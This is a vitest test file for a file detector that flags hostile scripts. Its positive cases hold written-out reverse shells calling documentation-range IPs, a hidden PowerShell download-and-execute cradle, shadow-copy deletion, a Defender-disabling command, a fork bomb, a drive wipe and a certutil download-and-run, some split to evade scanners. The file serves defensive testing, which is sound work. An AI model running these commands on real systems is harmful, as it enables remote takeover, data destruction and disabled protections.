import { SignalValues } from '@goodstanding/model'
import { describe, expect, it } from 'vitest'
import { detectFile } from './detect-file.ts'
import { look, tarOf } from './open-test-file.ts'

function scriptOf(name: string, text: string, looked = name): string | null {
  const sink = new SignalValues()
  detectFile({ ...look(looked, text, 'text/plain'), name }, '/data/file', sink)
  return sink.value('file.script-content') > 0 ? 'found' : null
}

/** Put together here, so that scanners leave this file alone. */
const SHELL = ['bash -i >& /dev/t', 'cp/198.51.100.7/9001 0>&1'].join('')
const FETCHED = ['I`E`X (New-Object Net.WebClient).Down', "loadString('http://198.51.100.9/p')"].join('')
const SHADOWS = ['vssadmin dele', 'te shadows /all /quiet'].join('')
const GUARD = ['Set-MpPre', 'ference -DisableRealtimeMonitoring $true'].join('')
const WITHOUT_END = [':(){ :|', ':& };:'].join('')
const RUN_KEY =
  'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v app /d "%ProgramFiles%\\app\\app.exe"'

describe('a script', () => {
  it.each([
    ['setup.sh', `#!/bin/sh\n${SHELL}\n`],
    ['setup', `#!/bin/bash\n${SHELL}\n`],
    ['a.sh', 'rm f;mkfifo f;cat f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >f'],
    [
      'a.py',
      'import socket,os,pty\ns=socket.socket()\ns.connect(("a.test",1))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]',
    ],
    ['a.ps1', '$c=New-Object System.Net.Sockets.TCPClient("a.test",1);while(1){$r=(iex $d 2>&1|Out-String)}'],
    ['update.ps1', `powershell -w hidden -nop -c "${FETCHED}"`],
    ['工资表.bat', `@echo off\r\n${SHADOWS}\r\n`],
    ['wide.ps1', `\ufeff${GUARD}`],
    ['a.sh', WITHOUT_END],
    ['a.cmd', 'rd /s /q C:\\'],
    ['a.hta', `<html><script>run('${SHADOWS}')</script></html>`],
    ['a.bat', 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe & start a.exe'],
    ['a.py', 'from pynput.keyboard import Listener\nimport smtplib'],
  ])('that attacks who runs it says so: %s %s', (name, text) => {
    expect(scriptOf(name, text)).not.toBeNull()
  })

  it('is one under the name that it is sent by, and not under the one that its bytes came by', () => {
    expect(scriptOf('a.sh', SHELL, '')).not.toBeNull()
    expect(scriptOf('a.sh', SHELL, 'a.bin')).not.toBeNull()
    expect(scriptOf('lesson.md', SHELL, 'a.sh')).toBeNull()
  })

  it('is found in an archive', () => {
    expect(look('tools.tar', tarOf([{ name: 'tools/setup.sh', content: SHELL }])).script).not.toBeNull()
  })

  it.each([
    ['build.sh', '#!/bin/sh\nset -e\nrm -rf ./dist ./build\nnpm ci\nnpm run build\n'],
    ['install.sh', 'curl -fsSL https://get.example.com/install | sh'],
    ['install.ps1', "iex ((New-Object System.Net.WebClient).DownloadString('https://packages.example/install.ps1'))"],
    ['start.ps1', 'Start-Process notepad -WindowStyle Hidden'],
    ['dev.ps1', 'Add-MpPreference -ExclusionPath C:\\src'],
    ['autostart.bat', RUN_KEY],
    ['clean.bat', 'rd /s /q C:\\build\\out\r\ndel /q *.obj'],
    ['port.sh', 'nc -z -w 2 db.example 5432 && echo up'],
    ['wait.sh', 'until (exec 3<>/dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'],
    ['mail.py', 'import smtplib\nsmtplib.SMTP("mail.example")'],
    ['encrypt.py', 'from cryptography.fernet import Fernet\nfor path in Path(".").rglob("*.bak"):\n  pass'],
    ['lesson.md', `A shell handed to somebody elsewhere: \`${SHELL}\``],
  ])('of a working day does not: %s %s', (name, text) => {
    expect(scriptOf(name, text)).toBeNull()
  })
})
